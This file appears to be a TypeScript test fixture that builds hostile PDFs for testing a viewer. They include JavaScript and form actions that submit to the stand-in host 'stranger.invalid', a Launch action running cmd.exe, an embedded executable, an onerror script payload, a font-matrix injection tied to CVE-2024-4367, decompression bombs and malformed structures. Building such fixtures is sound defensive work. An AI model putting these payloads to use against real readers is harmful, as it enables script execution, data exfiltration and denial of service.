import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { pdfOf } from '../../documents/made-files.ts'
import { addresses, type HostileFile } from './hostile-file.ts'

type PdfContents = {
  /** More of the catalogue, of the page, its resources and what it draws. */
  catalogue?: string
  page?: string
  resources?: string
  content?: string
  box?: string
  pages?: string
  /** Further objects, numbered from 6. */
  objects?: readonly string[]
}
const stream = (content: string, dictionary = '') =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`

/** A document of one page that says it was drawn, if what else is in it lets it. */
function pdf({
  catalogue = '',
  page = '',
  resources = '',
  content = '',
  box = '0 0 595 842',
  pages,
  objects = [],
}: PdfContents) {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    pages ?? '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 5 0 R /Resources << /Font << /F1 3 0 R /F2 6 0 R >> ${resources} >> ${page} >>`,
    stream(`BT /F1 24 Tf 72 720 Td (Trang dau) Tj ET ${content}`),
    ...objects,
  ])
}

const text = (words: string) => words.replaceAll(/[\\()]/g, (sign) => `\\${sign}`)
const script = `/S /JavaScript /JS (${text('fired(1); app.alert(1); this.submitForm("http://stranger.invalid/x")')})`
const actions: readonly [string, string][] = [
  ['script', `<< ${script} >>`],
  ['a program', '<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'],
  ['a form', '<< /S /SubmitForm /F << /FS /URL /F (http://stranger.invalid/x) >> >>'],
  ['another file', '<< /S /GoToR /F (http://stranger.invalid/x.pdf) /D [0 /Fit] /NewWindow true >>'],
  ['a place that is not there', '<< /S /GoTo /D [99 0 R /Fit] >>'],
  ['a named place', `<< /S /Named /N /Print >>`],
  ...addresses.map((address, at): [string, string] => [
    `address ${at}: ${address}`,
    `<< /S /URI /URI (${text(address)}) >>`,
  ]),
]
const box = '/Type /Annot /Rect [-1e9 -1e9 1e9 1e9]'
const acting = actions.flatMap(([what, action]): HostileFile[] => [
  [`${what} when it opens`, () => pdf({ catalogue: `/OpenAction ${action}`, page: `/AA << /O ${action} >>` })],
  [`${what} behind a link`, () => pdf({ page: `/Annots [<< ${box} /Subtype /Link /A ${action} >>]` })],
])
const carrying: HostileFile[] = [
  ['script by a name', () => pdf({ catalogue: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` })],
  [
    'a field that reckons',
    () =>
      pdf({
        catalogue: '/AcroForm << /Fields [6 0 R] /CO [6 0 R] /XFA (<script>fired(1)</script>) >>',
        page: '/Annots [6 0 R]',
        objects: [
          `<< ${box} /Subtype /Widget /FT /Tx /T (a) /V (<img src=x onerror=fired\\(1\\)>) /AA << /C << ${script} >> /K << ${script} >> >> >>`,
        ],
      }),
  ],
  [
    'a file within it',
    () =>
      pdf({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        page: `/Annots [<< ${box} /Subtype /FileAttachment /FS 6 0 R >>]`,
        objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')],
      }),
  ],
]

/** A font whose matrix holds words that older libraries ran (CVE-2024-4367), and fonts that are none. */
const font = (more: string) => `<< /Type /Font ${more} >>`
const described = (file: string, dictionary = '') => [
  font('/Subtype /TrueType /BaseFont /AAAAAA+X /FirstChar 32 /LastChar 34 /Widths [9 9 9] /FontDescriptor 7 0 R'),
  '<< /Type /FontDescriptor /FontName /AAAAAA+X /Flags 4 /FontBBox [0 0 1 1] /FontFile2 8 0 R >>',
  stream(file, dictionary),
]
const written = 'BT /F2 24 Tf 72 600 Td ( !"abc) Tj ET'
const fonts: HostileFile[] = [
  [
    'a matrix that runs',
    () =>
      pdf({
        content: written,
        objects: [
          font('/Subtype /Type1 /BaseFont /X /FontMatrix [0.1 0 0 0.1 0 (1\\); fired\\(1\\)//)] /FontDescriptor 7 0 R'),
          '<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1 1] /FontFile 8 0 R >>',
          stream(
            '%!PS-AdobeFont-1.0: X\n/FontMatrix [0.1 0 0 0.1 0 (1\\); fired\\(1\\)//)] def\n/CharStrings 1 dict dup begin',
          ),
        ],
      }),
  ],
  ['a font of nothing', () => pdf({ content: written, objects: described('') })],
  [
    'a font of anything',
    () => pdf({ content: written, objects: described('\u0000\u0001\u0000\u0000\u00ff'.repeat(5000)) }),
  ],
  [
    'a font that does not unpack',
    () => pdf({ content: written, objects: described('x'.repeat(999), '/Filter /FlateDecode') }),
  ],
  [
    'a font that draws itself',
    () =>
      pdf({
        content: written,
        objects: [
          font(
            '/Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F2 6 0 R >> >>',
          ),
          stream('9 0 d0 BT /F2 9 Tf (aaa) Tj ET'),
        ],
      }),
  ],
]

/** A form that draws the next one ten times, and the last the first if `isRound`. */
const forms = (count: number, isRound: boolean) =>
  Array.from({ length: count }, (_, at) => {
    const next = at + 1 < count ? 7 + at + 1 : isRound ? 7 : null
    return stream(
      next === null ? 'q 1 0 0 1 0 0 cm 0 0 9 9 re f Q ' : '/X Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << ${next === null ? '' : `/X ${next} 0 R`} >> >>`,
    )
  })
const drawing = (count: number, isRound: boolean) =>
  pdf({ content: '/X Do', resources: '/XObject << /X 7 0 R >>', objects: ['null', ...forms(count, isRound)] })

const boxes = [
  '0 0 1000000 1000000',
  '0 0 1e30 1e30',
  '0 0 0 0',
  '9 9 -9 -9',
  '0 0 1e6 1',
  '0 0 1 1e6',
  '(x) null /a 5',
  '',
].map((sides): HostileFile => [`a page of [${sides}]`, () => pdf({ box: sides, page: '/UserUnit 75000' })])
const whole = () => pdf({}).toString('latin1')
const from = (file: string) => Buffer.from(file, 'latin1')
const broken: HostileFile[] = [
  ['a table of places that lies', () => from(whole().replaceAll(/\d{10} 00000 n/g, '0000000009 00000 n'))],
  ['a table of places that leads to itself', () => from(whole().replace('/Size', '/Prev 9 /XRefStm 9 /Size'))],
  ['no table of places', () => from(whole().replace(/xref[^]*/, ''))],
  ['nothing but its name', () => from('%PDF-1.7\n')],
  ['half of it', () => from(whole().slice(0, 400))],
  ['anything', () => from(`%PDF-1.7\n${'\u0000\u00ff<<[('.repeat(20_000)}`)],
  ['dictionaries within one another', () => from(`%PDF-1.7\n1 0 obj\n${'<< /A '.repeat(200_000)}`)],
  ['pages that are their own', () => pdf({ pages: '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>' })],
  ['a thousand million pages by its word', () => pdf({ pages: '<< /Type /Pages /Kids [4 0 R] /Count 1000000000 >>' })],
  ['less than no pages', () => pdf({ pages: '<< /Type /Pages /Kids [4 0 R] /Count -5 >>' })],
  ['a page that is its own form', () => drawing(1, true)],
]

/** Gigabytes that take next to nothing while they are packed. */
function nothing(mebibytes: number): string {
  const four = deflateRawSync(Buffer.alloc(4 * 1024 * 1024, ' '), { finishFlush: constants.Z_FULL_FLUSH })
  const all = [deflateSync('').subarray(0, 2), ...Array.from({ length: mebibytes / 4 }, () => four), deflateRawSync('')]
  return Buffer.concat(all).toString('latin1')
}
const image = (sides: number) =>
  pdf({
    content: 'q 300 0 0 300 100 200 cm /X Do Q',
    resources: '/XObject << /X 6 0 R >>',
    objects: [
      stream(
        nothing(4),
        `/Type /XObject /Subtype /Image /Width ${sides} /Height ${sides} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
      ),
    ],
  })

/** Those that cost a browser most. */
export const heavyPdfs: HostileFile[] = [
  ['forms within forms', () => drawing(9, false)],
  ['10,000 pages', () => pdf({ pages: `<< /Type /Pages /Kids [${'4 0 R '.repeat(10_000)}] /Count 10000 >>` })],
  ['100,000 pages', () => pdf({ pages: `<< /Type /Pages /Kids [${'4 0 R '.repeat(100_000)}] /Count 100000 >>` })],
  ['forms that go round', () => drawing(9, true)],
  ['a picture of 30,000 by 30,000', () => image(30_000)],
  ['a picture of a million by a million', () => image(1_000_000)],
  [
    '2 GB of blanks to draw',
    () => pdf({ page: '/Contents 6 0 R', objects: [stream(nothing(2048), '/Filter /FlateDecode')] }),
  ],
]
/** PDFs that mean harm to whoever opens them. */
export const hostilePdfs: HostileFile[] = [...acting, ...carrying, ...fonts, ...boxes, ...broken]
